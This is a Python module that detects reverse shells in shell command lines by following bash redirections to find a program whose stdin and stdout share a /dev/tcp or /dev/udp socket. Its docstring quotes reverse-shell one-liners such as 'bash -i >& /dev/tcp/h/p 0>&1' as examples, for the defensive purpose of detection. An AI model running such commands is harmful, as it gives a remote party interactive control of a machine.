"""Which standard streams a shell command line puts on a `/dev/tcp` or `/dev/udp` socket.

bash opens `/dev/tcp/HOST/PORT` itself when a redirection names it. A reverse shell is a
shell whose stdin *and* stdout are that socket (`bash -i >& /dev/tcp/h/p 0>&1`,
`exec 5<>/dev/tcp/h/p; sh <&5 >&5`); a health check talks over a spare descriptor
(`exec 3<>/dev/tcp/h/p; printf ... >&3; head -1 <&3`) or probes a port
(`</dev/tcp/h/p`), and no program of it reads commands from the socket. This module
follows the redirections of each simple command, in order, the way the shell applies
them, and says which command (if any) runs with fd 0 and fd 1 on the same socket.
"""

from __future__ import annotations

import os
import re
from dataclasses import dataclass

#: one redirection: [n]op target  (op: < > >> >| <> >& <& &> &>>)
_REDIRECT = re.compile(r"(?<![\w&])(\d*)(&>>|&>|<>|>&|<&|>>|>\||<|>)\s*([^\s;&|<>()]+|-)?")
#: command separators (`;`, `&&`, `||`, `|`, `&`, newline), not the `&` of `>&`/`<&`/`&>`
_SEPARATOR = re.compile(r"\|\||&&|;|\n|\|&?|(?<![<>&])&(?![>&])")
_DEV_NET = re.compile(r"^/dev/(tcp|udp)/[^/\s]+/\d+$")
_ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")


@dataclass(frozen=True)
class SocketStreams:
    """A command of the line that runs with stdin and stdout on one `/dev/tcp` socket."""

    #: the program that runs so (`exec` when the shell itself is rewired)
    program: str
    #: the /dev/tcp or /dev/udp path
    socket: str


def _apply(fds: dict[int, str | None], text: str) -> str:
    """Apply the redirections of one simple command to `fds`; return the words left."""
    def one(m: re.Match[str]) -> str:
        num, op, target = m.group(1), m.group(2), (m.group(3) or "").strip("'\"")
        if op in ("&>", "&>>"):
            value = target if target and _DEV_NET.match(target) else None
            fds[1] = fds[2] = value
            return " "
        if op in (">&", "<&"):
            n = int(num) if num else (1 if op == ">&" else 0)
            if target == "-":
                fds.pop(n, None)
            elif target and target.isdigit():
                fds[n] = fds.get(int(target))
            else:  # `>& file`: stdout and stderr to a file (or a socket path)
                value = target if target and _DEV_NET.match(target) else None
                fds[1] = value
                if not num:
                    fds[2] = value
            return " "
        n = int(num) if num else (0 if op in ("<", "<>") else 1)
        fds[n] = target if target and _DEV_NET.match(target) else None
        return " "
    return _REDIRECT.sub(one, text)


def _program(words: str) -> str | None:
    for w in words.split():
        w = w.strip("'\"")
        if not w or _ASSIGNMENT.match(w) or w in ("{", "}", "(", ")", "!"):
            continue
        return os.path.basename(w) or None
    return None


def socket_streams(command: str, programs: frozenset[str]) -> SocketStreams | None:
    """The first command of `command` that runs one of `programs` (or `exec` alone) with
    fd 0 and fd 1 on the same `/dev/tcp`/`/dev/udp` socket, or None.

    `exec` redirections without a program persist for the rest of the line, as in the
    shell; a builtin such as `printf ... >&3` only rewires itself.
    """
    if "/dev/tcp/" not in command and "/dev/udp/" not in command:
        return None
    base: dict[int, str | None] = {}
    for part in _SEPARATOR.split(command):
        if not part.strip():
            continue
        fds = dict(base)
        words = _apply(fds, part)
        program = _program(words)
        if program == "exec":
            rest = words.split(None, 1)[1] if len(words.split(None, 1)) > 1 else ""
            program = _program(rest)
            if program is None:
                base = fds
                if fds.get(0) and fds.get(0) == fds.get(1):
                    return SocketStreams("exec", fds[0] or "")
                continue
        if program in programs and fds.get(0) and fds.get(0) == fds.get(1):
            return SocketStreams(program, fds[0] or "")
    return None
